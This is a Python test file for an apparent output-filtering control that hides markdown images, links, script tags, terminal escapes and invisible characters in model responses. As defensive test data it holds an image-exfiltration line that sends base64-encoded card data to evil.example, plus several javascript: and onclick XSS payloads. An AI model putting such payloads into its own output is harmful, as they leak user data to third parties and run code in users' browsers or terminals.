"""Images, links, HTML, escapes: hidden where they would act, left alone where they would not, however they are cut."""

from __future__ import annotations

import asyncio

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from ringwall.controls.application.markup import CONTROL, Markup
from ringwall.controls.identity_data.sensitive_data import CONTROL as SENSITIVE
from ringwall.model.content import JSON, Json, Origin, Part, PartId, freeze
from ringwall.model.errors import ConfigError
from ringwall.model.interaction import Checkpoint, Vantage
from ringwall.model.verdict import Allow, Deny, Transform, Verdict
from tests.controls.judging import build, judge, vantage
from tests.controls.streaming import check, streamed, whole
from tests.detectors.test_markup import ATTACKS, ORDINARY

CONTROLLED: Markup = build(CONTROL, hosts=("docs.example.com", "*.cdn.example"))
DATA = "c2VjcmV0OiB0aGUgY2FyZCBpcyA0MTEx"


def seen(value: object, checkpoint: Checkpoint = Checkpoint.RESPONSE, focus: tuple[int, int] | None = None) -> Vantage:
    frozen: Json = freeze(value)
    media = "text/plain" if isinstance(frozen, str) else JSON
    plain = vantage(checkpoint=checkpoint)
    return Vantage(checkpoint, plain.interaction, (Part(PartId("p"), Origin.MODEL, frozen, media),), plain.facts, focus)


def judged(value: object, control: Markup = CONTROLLED) -> Verdict:
    return judge(control, seen(value))


def test_image_exfiltration_hidden() -> None:
    assert whole(CONTROLLED, f"Done. ![ok](https://evil.example/p.png?d={DATA}) Bye.") == "Done. [IMAGE] Bye."


def test_terminal_escape_hidden() -> None:
    text = "see \x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\ and \x1b[31mred\x1b[0m"
    assert whole(CONTROLLED, text) == (
        "see [TERMINAL_ESCAPE]here[TERMINAL_ESCAPE] and [TERMINAL_ESCAPE]red[TERMINAL_ESCAPE]"
    )


@pytest.mark.parametrize("text", [text for texts in ATTACKS.values() for text in texts])
def test_an_attack_is_hidden_and_nothing_active_remains(text: str) -> None:
    told = f"So here it is: {text} and that was it."
    verdict = judged(told)
    assert isinstance(verdict, (Transform, Deny)), told
    out = whole(CONTROLLED, told)
    assert out is None or isinstance(judged(out), Allow)


@pytest.mark.parametrize("text", [text for texts in ATTACKS.values() for text in texts])
def test_no_attack_escapes_however_it_is_cut(text: str) -> None:
    for size in (1, 2, 3, 7):
        check(CONTROLLED, f"So here it is: {text} and that was it.", [size])


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_answers_are_left_untouched(text: str) -> None:
    assert judged(text) == Allow(frozenset({PartId("p")}))
    assert streamed(CONTROLLED, list(text)) == (text, False)


def test_a_listed_host_may_show_images_and_one_that_passes_on_may_not() -> None:
    assert whole(CONTROLLED, "![a](https://docs.example.com/a.png)") == "![a](https://docs.example.com/a.png)"
    assert whole(CONTROLLED, "![a](https://x.cdn.example/a.png)") == "![a](https://x.cdn.example/a.png)"
    told = "![a](https://docs.example.com/proxy?url=https%3A%2F%2Fevil.example%2Fx)"
    assert whole(CONTROLLED, told) == "[IMAGE]"


def test_links_to_other_hosts_may_be_hidden_too() -> None:
    strict = build(CONTROL, actions={**_defaults(), "link": "hide"}, hosts=("docs.example.com",))
    told = "See [this](https://other.example/a), [that](https://docs.example.com/a) and https://other.example/b."
    assert whole(strict, told) == "See [LINK], [that](https://docs.example.com/a) and [LINK]."


def test_a_kind_may_be_refused_and_what_nobody_spoke_of_is() -> None:
    strict = build(CONTROL, actions={**_defaults(), "image": "refuse"})
    verdict = judge(strict, seen("![a](https://evil.example/a.png)"))
    assert isinstance(verdict, Deny) and verdict.code == "image"
    assert isinstance(judge(build(CONTROL, actions={}), seen("<script>")), Deny)


def test_arguments_are_not_shown_but_escapes_in_them_are_hidden() -> None:
    assert isinstance(judged({"body": "<img src=https://evil.example/x>"}), Allow)
    verdict = judged({"body": ["a\x1b[2Jb"]})
    assert isinstance(verdict, Transform) and verdict.edits[0].place.pointer == "/body/0"
    strict = build(CONTROL, arguments=True)
    assert isinstance(judge(strict, seen({"body": "<img src=https://evil.example/x>"})), Transform)


def test_a_key_that_acts_is_refused_and_its_place_not_named() -> None:
    verdict = judged({"a\x1b[2J": 1})
    assert isinstance(verdict, Deny)
    assert {each.place for each in verdict.evidence} == {None}
    assert isinstance(judged({"n": 12, "m": 1.5}), Allow)


def test_an_endless_run_of_invisible_characters_is_refused() -> None:
    assert whole(CONTROLLED, "a" + "\u200b" * 300 + "b") is None
    assert streamed(CONTROLLED, list("a" + "\u200b" * 300 + "b"))[1]
    assert whole(CONTROLLED, "a" + "\u200b" * 30 + "b") == "a[INVISIBLE_TEXT]b"


def test_only_findings_that_start_in_the_focus_are_reported() -> None:
    text = "<script> <script> <script>"
    verdict = judge(CONTROLLED, seen(text, Checkpoint.CHUNK, (9, 12)))
    assert isinstance(verdict, Transform)
    assert [(each.place.start, each.place.end) for each in verdict.edits] == [(9, 17)]


def test_an_image_part_is_not_covered() -> None:
    plain = vantage()
    part = Part(PartId("p"), Origin.MODEL, "...", "image/png")
    verdict = asyncio.run(CONTROLLED.examine(Vantage(Checkpoint.RESPONSE, plain.interaction, (part,), plain.facts)))
    assert verdict.covered == frozenset()


@pytest.mark.parametrize(
    "wrong",
    [
        {"actions": {"picture": "hide"}},
        {"actions": {"image": "mask"}},
        {"hosts": ("https://docs.example.com",)},
        {"hosts": ("*.",)},
        {"hosts": tuple(f"h{number}.example" for number in range(1001))},
    ],
)
def test_settings_that_mean_nothing_are_refused(wrong: dict[str, object]) -> None:
    with pytest.raises(ConfigError):
        build(CONTROL, **wrong)


def test_prose_is_held_for_a_word_and_a_construct_until_it_ends() -> None:
    assert CONTROLLED.held("We would like to know more ab") == 2
    assert CONTROLLED.held("All of it is done. ") == 0
    assert CONTROLLED.held("see ![a picture](https://evil.exa") == len("![a picture](https://evil.exa")
    assert CONTROLLED.held("") == 0


PIECES = st.one_of(
    st.sampled_from([text for texts in ATTACKS.values() for text in texts if len(text) < 300]),
    st.sampled_from(ORDINARY),
    st.sampled_from(
        [
            "```",
            "```html\n",
            "```python\n",
            "~~~",
            "`",
            "``",
            "\n",
            "\n\n",
            "\n- ",
            "> ",
            "|",
            "\\",
            "![",
            "](",
            "]:",
            "]",
            "[a]",
            "(",
            ")",
            "<",
            ">",
            "<b title='",
            "<a ",
            '"',
            "https://",
            "www.",
            "x.example/a?d=",
            DATA,
            "\x1b",
            "\x1b]",
            "\x07",
            "\x9b",
            "\r",
            "\u200b",
            "\U000e0041",
            "\u202e",
            "word ",
            "click ",
            "```mermaid\n",
            "%%{",
            " ",
            "é",
        ]
    ),
    st.text(alphabet="ab`<>[]()!:/\\\n \x1b", max_size=6),
)


@settings(deadline=None, max_examples=300)
@given(st.lists(PIECES, max_size=14).map("".join), st.lists(st.integers(1, 40), min_size=1, max_size=6))
@example("x ` y\n\n- `<script>` " + "word " * 200 + "`<script>`", [3])
@example("```python\n" + "x = '<script>'\n" * 400 + "```\n", [11])
def test_a_stream_gives_what_the_whole_gives(text: str, sizes: list[int]) -> None:
    check(CONTROLLED, text, sizes, exactly=False)


def _defaults() -> dict[str, str]:
    return {
        kind: "allow" if kind == "link" else "hide"
        for kind in CONTROLLED._actions  # what the catalog says, as the tests above see
    }


@pytest.mark.parametrize(
    "text",
    [
        "<a <script> href=javascript:alert(1)>",
        "[a]\x1b[0m(javascript:alert(1))",
        "\x1b[0m: javascript:alert(1)\n\n[TERMINAL_ESCAPE]",
        "!<script>(https://evil.example/p.png)",
        "\x9b``a` <script> `b``<script>",
        "\x1b]\n```python\n\x07<script>",
        "a ` b <b onclick='\n\n'> `<script>`",
        "<x " + " " * 2000 + "onclick=alert(1)>",
    ],
)
def test_hiding_one_thing_makes_no_other(text: str) -> None:
    for size in (1, 2, 5, len(text)):
        out, refused = streamed(CONTROLLED, [text[at : at + size] for at in range(0, len(text), size)])
        assert refused or isinstance(judged(out), Allow), out


@pytest.mark.parametrize(
    "text",
    ["4111 1111 1111 1111(javascript:alert(1))", "!4111 1111 1111 1111(https://evil.example/p.png)",
     "4111 1111 1111 1111: javascript:alert(1)"],
)  # fmt: skip
def test_what_another_control_hides_becomes_no_link(text: str) -> None:
    both = [CONTROLLED, build(SENSITIVE)]
    for size in (1, 2, 7):
        out, refused = streamed(both, [text[at : at + size] for at in range(0, len(text), size)])
        assert refused or isinstance(judged(out), Allow), out
